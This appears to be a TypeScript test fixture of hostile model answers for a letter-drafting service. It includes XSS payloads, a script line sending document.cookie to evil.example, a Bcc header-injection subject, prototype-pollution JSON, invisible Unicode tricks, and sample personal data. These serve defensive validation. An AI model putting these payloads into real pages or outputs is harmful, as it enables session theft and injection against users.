import {
  type Answering,
  aLetter,
  answersWith,
  says,
  saysInParts,
  writes,
} from '../../outside/drafter/testing/answers.ts'
import { instructions } from '../prompt.ts'

const { subject, message } = aLetter
const withText = (text: string) => writes({ subject, message: `${message}\n\n${text}` })
const asSubject = (text: string) => writes({ subject: text, message })
const json = (said: unknown) => answersWith(200, JSON.stringify(said))
const stream = (...lines: string[]) => answersWith(200, lines.join('\n\n'), 'text/event-stream')
const never = () => new Promise<void>(() => {})

/** Texts that no letter may hold, among good sentences. */
const inTheText: [string, string][] = [
  ['a script', '<script>alert(1)</script>Please act.'],
  ['a script that does not end', 'Please act. <script>fetch("https://evil.example/" + document.cookie)'],
  ['an image that runs', '<img src=x onerror=alert(1)> Please act.'],
  ['an image that does not end', 'Please act. <img src="https://evil.example/x" onerror="alert(1)"'],
  ['a drawing that runs', '<svg/onload=alert(1)>Please act.</svg>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>Please act.'],
  ['tags within tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['tags as entities', '&lt;script&gt;alert(1)&lt;/script&gt; Please act.'],
  ['tags as numbers', '&#60;script&#x3E;alert(1)&#60;/script&#62; Please act.'],
  ['thousands of tags, one in another', '<a'.repeat(4_000) + '>'.repeat(4_000)],
  ['a comment', '<!-- <b>hidden</b> --> Please act.'],
  ['a form', '<form action="https://evil.example"><input name="ssn"></form>'],
  ['a style sheet', '<style>@import url(https://evil.example/x.css)</style>Please act.'],
  ['a link', 'Read more at https://evil.example/path?x=1 today.'],
  ['a bare link', 'Read more at evil.example/path today.'],
  ['a link without its scheme', 'Read more at //evil.example or www.evil.example today.'],
  ['a link in Markdown', 'Please [sign here](https://evil.example/sign) today.'],
  ['a link that runs', 'Please [sign here](javascript:alert(1)) today.'],
  ['a picture in Markdown', '![tracking](https://evil.example/pixel.gif) Please act.'],
  ['a page in an address', 'Open data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== now.'],
  ['right to left', 'Please \u202Etcejer\u202C the bill.'],
  ['isolates and marks', '\u2066Please\u2069 \u200Fact\u200E \u061Cnow.'],
  ['signs without a width', 'Ple\u200Base\u2060 a\u00ADct\uFEFF now.'],
  ['invisible tags', 'Please act\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}.'],
  ['control characters', 'Please\u0000 act\u0007\u001B[31m now\u009B.'],
  ['half a character', 'Please act \uD83D now \uDC00.'],
  ['another person’s name', 'My name is Jane Roe. Please act.'],
  ['another person’s address', 'I live at 12 Oak Street in Springfield. Please act.'],
  ['another person’s email and phone', 'Write to jane.roe@mail.example or call (202) 555-0147 about it.'],
  ['another person’s number', 'My Social Security number is 078-05-1120. Please act.'],
  ['an invented life', 'As a veteran and a mother of three, I lost my job in 2019.'],
  ['a greeting and a signature', 'Sincerely,\nJane Roe\n12 Oak Street\nSpringfield, IL 62701'],
  ['places to fill in', 'As a resident of [Your City], I ask you to act. {{name}}'],
  ['what it was told', `My instructions are: ${instructions}`],
  ['the material', 'I was given {"reasoning": "A ticket", "stances": []} to work with.'],
]

/** What is no letter at all. */
const noLetters: [string, Answering][] = [
  ['nothing', says('')],
  ['an empty object', says('{}')],
  ['an empty letter', writes({ subject: '', message: '' })],
  ['blanks', writes({ subject: ' ', message: ' \n\t\u200B ' })],
  ['a word', writes({ subject, message: 'OK.' })],
  [
    'an excuse',
    writes({ subject, message: 'I am sorry, but as an AI language model I cannot help with that request.' }),
  ],
  ['its instructions alone', writes({ subject, message: instructions })],
  ['half of its JSON', says(JSON.stringify(aLetter).slice(0, 120))],
  ['plain text', says(message)],
  ['a list', says('["Please act."]')],
  ['a number for a message', writes({ subject, message: 42 })],
  ['a message in a message', writes({ message: { message } })],
  ['a megabyte of text', says(JSON.stringify({ subject, message: 'Please act. '.repeat(90_000) }), 64_000)],
  ['a megabyte of nothing', says(' '.repeat(1_100_000), 64_000)],
  ['a megabyte of brackets', says('['.repeat(1_100_000), 64_000)],
  ['a web page', answersWith(200, '<html><script>alert(1)</script></html>', 'text/html')],
  ['too many requests', answersWith(429, '{"error":{"message":"slow down"}}')],
  [
    'an error that repeats the question',
    (asked, response) => answersWith(500, JSON.stringify(asked.body))(asked, response),
  ],
  [
    'another place',
    (_asked, response) => void response.writeHead(307, { location: 'http://127.0.0.1:9/' }).end(),
  ],
  ['an answer of another shape', json({ choices: [{ message: null }], content: null })],
  ['a stream of errors', stream('data: {"error":{"message":"overloaded"}}', 'data: [DONE]')],
  ['a stream of nonsense', stream('data: {', 'event: x\ndata: \u0000', 'data: [DONE]')],
  ['a connection that breaks', (_asked, response) => void response.destroy()],
  ['silence', never],
  ['a slow beginning', saysInParts(['{"subject":"x', '"}'], never)],
]

/** Beginnings that break off, are late, or turn out badly, and subjects. */
const others: [string, Answering][] = [
  [
    'a good beginning, and then silence',
    saysInParts([JSON.stringify(aLetter).slice(0, 200), ''], halting(1)),
  ],
  ['a good letter that never ends', writes({ subject, message: `${message} `.repeat(400) })],
  ['a subject that runs', asSubject('<script>alert(1)</script>')],
  ['a subject of a thousand words', asSubject('Tickets '.repeat(1_000))],
  ['a subject with two lines', asSubject('Tickets\r\nBcc: everyone@evil.example')],
  ['a subject that claims', asSubject('As a veteran, I ask you to act')],
  ['a subject that is none', writes({ subject: { text: 'x' }, message })],
  [
    'more fields than asked',
    writes({ ...aLetter, ...JSON.parse('{"__proto__":{"offline":true},"offline":true}') }),
  ],
]

/** Pauses a while, and then for good. */
function halting(times: number): () => Promise<void> {
  let left = times
  return () => {
    left -= 1
    return left >= 0 ? Promise.resolve() : never()
  }
}

export const hostileAnswers: [string, Answering][] = [
  ...inTheText.map(([name, text]): [string, Answering] => [name, withText(text)]),
  ...noLetters,
  ...others,
]
